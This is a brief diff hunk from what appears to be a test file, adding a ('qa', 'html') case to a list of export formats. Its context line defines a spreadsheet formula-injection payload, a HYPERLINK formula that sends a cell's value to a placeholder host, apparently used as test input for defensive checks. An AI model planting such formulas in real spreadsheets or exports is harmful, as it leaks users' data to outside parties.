@@ -159,6 +159,7 @@ FORMULA = '=HYPERLINK("http://x.example/?leak="&C5,"click")'
         ("align", "tmx"),
         ("align", "html"),
         ("qa", "xlsx"),
+        ("qa", "html"),
         ("terms", "tbx"),
     ],
 )
